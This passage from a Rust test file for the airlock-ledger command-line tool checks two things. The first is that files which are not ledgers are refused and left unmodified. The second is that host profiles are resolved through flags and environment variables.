        assert_eq!(r.code, 1, "{db}: {r:#?}");
        assert!(
            r.stderr.contains(&format!("{db} is not an airlock ledger")),
            "{db}: {}",
            r.stderr
        );
    }
    for cmd in commands {
        let mut args = vec!["--db", "noise.db"];
        args.extend_from_slice(cmd);
        let r = run_in(dir.path(), &args);
        // Not a SQLite file at all: refused with the path named (exit 1 as a wrong
        // file, or 3 as a damaged ledger), never a panic.
        assert!(matches!(r.code, 1 | 3), "noise.db {cmd:?}: {r:#?}");
        assert!(
            r.stderr
                .starts_with("airlock-ledger: error: noise.db is not an airlock ledger: ")
                || r.stderr
                    .starts_with("airlock-ledger: error: ledger noise.db: ")
                    && r.stderr.contains("file is not a database"),
            "noise.db {cmd:?}: {}",
            r.stderr
        );
    }
    assert!(!dir.path().join("e.jsonl").exists());
    assert!(std::fs::read(dir.path().join("noise.db")).unwrap() == noise);
}

/// Regression: `checkpoint` opened the database read-write and switched it to WAL
/// mode before it checked that the file is a ledger, so pointing `--db` at another
/// program's SQLite file rewrote its header (bytes 18-19 became 2), and an empty
/// file became a 4 KiB SQLite database.
#[test]
fn checkpoint_leaves_a_file_that_is_not_a_ledger_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    host_keys(dir.path());
    let conn = rusqlite::Connection::open(dir.path().join("other.db")).unwrap();
    conn.execute("CREATE TABLE entries (seq INTEGER)", [])
        .unwrap();
    drop(conn);
    std::fs::write(dir.path().join("empty.db"), b"").unwrap();
    for db in ["other.db", "empty.db"] {
        let before = std::fs::read(dir.path().join(db)).unwrap();
        let r = run_in(dir.path(), &["--db", db, "checkpoint"]);
        assert_eq!(r.code, 1, "{r:#?}");
        assert!(
            r.stderr.contains("is not an airlock ledger"),
            "{}",
            r.stderr
        );
        assert!(
            std::fs::read(dir.path().join(db)).unwrap() == before,
            "{db} changed"
        );
    }
}

// ---------------------------------------------------------------------------
// profile resolution

/// A host profile (the sample `none.toml`) whose state_dir is `state`.
fn write_profile(path: &Path, state: &Path) {
    let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("../samples/profiles/none.toml");
    let text = std::fs::read_to_string(sample).unwrap();
    let line = "state_dir = \"/var/lib/airlock\"";
    assert!(text.contains(line));
    let text = text.replace(line, &format!("state_dir = {}", toml_string(state)));
    std::fs::write(path, text).unwrap();
}

fn toml_string(p: &Path) -> String {
    serde_json::to_string(p.to_str().unwrap()).unwrap()
}

#[test]
fn without_db_the_profile_names_the_state_dir() {
    let f = Fixture::sample();
    let etc = tempfile::tempdir().unwrap();
    let profile = etc.path().join("host.toml");
    write_profile(&profile, f.path());
    let expected = f.run(&["log", "--format", "csv"]);
    assert_eq!(expected.code, 0);

    let r = run_in(
        etc.path(),
        &["--profile", "host.toml", "log", "--format", "csv"],
    );
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    assert_eq!(r.stdout, expected.stdout);

    let mut c = command(etc.path());
    c.env("AIRLOCK_PROFILE", &profile)
        .args(["log", "--format", "csv"]);
    let r = finish(c, &[etc.path()]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    assert_eq!(r.stdout, expected.stdout);

    // verify finds host.pub in the state_dir too.
    let mut c = command(etc.path());
    c.env("AIRLOCK_PROFILE", &profile)
        .args(["verify", "--json"]);
    let r = finish(c, &[f.path()]);
    assert_eq!(r.code, 0, "{r:#?}");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(
        (v["source"].as_str(), v["signatures_checked"].as_bool()),
        (Some("[TMP]/ledger.db"), Some(true))
    );

    // --profile wins over AIRLOCK_PROFILE, and --db over both.
    let mut c = command(etc.path());
    c.env("AIRLOCK_PROFILE", "/nonexistent/host.toml").args([
        "--profile",
        "host.toml",
        "show",
        "2",
        "--json",
    ]);
    assert_eq!(finish(c, &[]).code, 0);
    let mut c = command(etc.path());
    c.env("AIRLOCK_PROFILE", "/nonexistent/host.toml").args([
        "--profile",
        "/nonexistent/too.toml",
        "--db",
        f.db.to_str().unwrap(),
        "show",
        "2",
    ]);
    assert_eq!(finish(c, &[]).code, 0);

    // A missing profile is named.
    let r = run_in(etc.path(), &["--profile", "missing.toml", "log"]);
    assert_eq!(r.code, 1, "{r:#?}");
    assert_eq!(
        r.stderr,
        "airlock-ledger: error: no host profile at missing.toml\n  what to do: write the host profile there (operator guide §3.3; the Debian package installs a commented one), or name another with --profile FILE or AIRLOCK_PROFILE (default /etc/airlock/host.toml)\n"
    );
}
